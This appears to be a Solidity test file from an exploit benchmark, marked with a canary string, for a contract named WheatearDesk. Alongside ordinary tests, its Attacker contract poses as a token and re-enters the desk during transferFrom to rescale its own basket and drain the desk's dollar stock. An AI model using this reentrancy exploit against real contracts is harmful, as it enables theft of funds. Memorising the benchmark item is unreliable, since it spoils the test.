// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.8.24;

import "./WheatearDesk.sol";

// assay-canary-f2ceea46-6fd3-4cb1-b0f8-e1c5999f2481

interface Vm {
    function prank(address sender) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is IPart {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// A token that answers "false" where others revert: always, or only when it pays out.
contract Polite is IPart {
    bool internal takes;

    constructor(bool takes_) {
        takes = takes_;
    }

    function approve(address, uint256) external pure returns (bool) {
        return true;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return false;
    }

    function transferFrom(address, address, uint256) external view returns (bool) {
        return takes;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant CLIENT = address(0xC11E);
    address internal constant CURATOR = address(0xC04A);

    Token internal usd;
    Token internal tin;
    WheatearDesk internal desk;
    WheatearBasket internal basket;
    Attacker internal thief;

    function setUp() public {
        usd = new Token();
        tin = new Token();
        desk = new WheatearDesk(usd);
        usd.mint(address(this), 10_100e6);
        tin.mint(address(this), 500e18);
        usd.approve(address(desk), type(uint256).max);
        tin.approve(address(desk), type(uint256).max);
        desk.addStock(usd, 10_000e6, 0);
        desk.addStock(tin, 500e18, 30e6);

        IPart[] memory parts = new IPart[](2);
        uint256[] memory units = new uint256[](2);
        (parts[0], parts[1]) = (usd, tin);
        (units[0], units[1]) = (40e6, 2e18);
        vm.prank(CURATOR);
        basket = desk.make(parts, units);

        thief = new Attacker(desk, usd);
        usd.mint(address(thief), 20e6);
    }

    function test_Regular() public {
        usd.mint(CLIENT, 10_000e6);
        vm.prank(CLIENT);
        usd.approve(address(desk), 10_000e6);
        vm.prank(CLIENT);
        tin.approve(address(desk), 100e18);
        vm.prank(CLIENT);
        require(desk.buyPart(tin, 100e18) == 3_000e6, "bought");

        uint256[] memory most = new uint256[](2);
        (most[0], most[1]) = (400e6, 20e18);
        vm.prank(CLIENT);
        desk.issue(basket, 10e18, most, CLIENT);
        require(basket.balanceOf(CLIENT) == 10e18, "issued");
        require(usd.balanceOf(CLIENT) == 6_600e6 && tin.balanceOf(CLIENT) == 80e18, "parts");
        require(tin.balanceOf(address(desk)) == 400e18 && usd.balanceOf(address(desk)) == 13_000e6, "stock");

        vm.prank(CURATOR);
        basket.rescale(1.1e18);
        vm.prank(CLIENT);
        (bool ok, ) = address(desk).call(abi.encodeCall(WheatearDesk.issue, (basket, 10e18, most, CLIENT)));
        require(!ok, "above");
        vm.prank(CLIENT);
        basket.burn(5e18);
        require(usd.balanceOf(CLIENT) == 6_800e6 && tin.balanceOf(CLIENT) == 90e18, "redeemed");
        (ok, ) = address(basket).call(abi.encodeCall(WheatearBasket.rescale, (1)));
        require(!ok, "not the curator");
        desk.takeStock(usd, 13_000e6);

        vm.prank(CLIENT);
        basket.transfer(CURATOR, 1e18);
        require(basket.balanceOf(CURATOR) == 1e18, "handed on");
    }

    function test_RefusesStrangers() public {
        vm.prank(CLIENT);
        vm.expectRevert(WheatearBasket.NotCurator.selector);
        basket.rescale(1.1e18);
        vm.prank(CLIENT);
        vm.expectRevert(WheatearDesk.NotOwner.selector);
        desk.addStock(tin, 0, 1);
        vm.prank(CLIENT);
        vm.expectRevert(WheatearDesk.NotOwner.selector);
        desk.takeStock(usd, 1e6);
    }

    function test_RefusesAScaleThatIsNotHigher() public {
        vm.prank(CURATOR);
        vm.expectRevert(WheatearBasket.NotHigher.selector);
        basket.rescale(1e18);
        vm.prank(CURATOR);
        vm.expectRevert(WheatearBasket.NotHigher.selector);
        basket.rescale(0.9e18);
    }

    function test_RefusesListsThatDoNotFit() public {
        vm.expectRevert(bytes(""));
        desk.make(new IPart[](2), new uint256[](3));
        vm.expectRevert(bytes(""));
        desk.make(new IPart[](9), new uint256[](9));
    }

    function test_RefusesWhatIsNotOffered() public {
        vm.expectRevert(abi.encodeWithSelector(WheatearDesk.NotForSale.selector, usd));
        desk.buyPart(usd, 1e6);
        WheatearBasket foreign = new WheatearBasket(address(this), new IPart[](0), new uint256[](0));
        vm.expectRevert(abi.encodeWithSelector(WheatearDesk.Foreign.selector, foreign));
        desk.issue(foreign, 1e18, new uint256[](0), CLIENT);
    }

    function test_RefusesWhatAPartRefuses() public {
        Polite never = new Polite(false);
        vm.expectRevert(abi.encodeWithSelector(WheatearDesk.Refused.selector, never));
        desk.addStock(never, 0, 0);
        vm.expectRevert(abi.encodeWithSelector(WheatearDesk.Refused.selector, never));
        desk.takeStock(never, 0);

        IPart[] memory parts = new IPart[](1);
        parts[0] = never;
        WheatearBasket other = new WheatearBasket(address(this), parts, new uint256[](1));
        vm.expectRevert(abi.encodeWithSelector(WheatearBasket.PartRefused.selector, never));
        other.mint(address(this), 1e18);
        parts[0] = new Polite(true);
        other = new WheatearBasket(address(this), parts, new uint256[](1));
        other.mint(address(this), 1e18);
        vm.expectRevert(abi.encodeWithSelector(WheatearBasket.PartRefused.selector, parts[0]));
        other.burn(1e18);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = stockLeft();
        exploit();
        require(stockLeft() + 10_000e6 <= before, "nothing lost");
        require(usd.balanceOf(address(thief)) == 10_020e6, "gained");
    }

    /// What the owner of the desk can still take out in dollars.
    function stockLeft() public view returns (uint256) {
        uint256 here = usd.balanceOf(address(desk));
        uint256 due = desk.stock(usd);
        return due < here ? due : here;
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Is a token too, and the curator of a basket that contains it.
contract Attacker {
    WheatearDesk internal desk;
    Token internal usd;
    WheatearBasket internal own;

    constructor(WheatearDesk desk_, Token usd_) {
        desk = desk_;
        usd = usd_;
    }

    function run() external {
        IPart[] memory parts = new IPart[](2);
        uint256[] memory units = new uint256[](2);
        uint256[] memory most = new uint256[](2);
        (parts[0], parts[1]) = (IPart(address(this)), usd);
        (units[0], units[1]) = (1, 20e6);
        most[0] = most[1] = type(uint256).max;
        own = desk.make(parts, units);
        usd.approve(address(desk), 20e6);
        desk.issue(own, 1e18, most, address(this));
        own.burn(1e18);
    }

    function transferFrom(address, address, uint256) external returns (bool) {
        if (msg.sender == address(desk)) own.rescale(501e18);
        return true;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return true;
    }

    function approve(address, uint256) external pure returns (bool) {
        return true;
    }
}
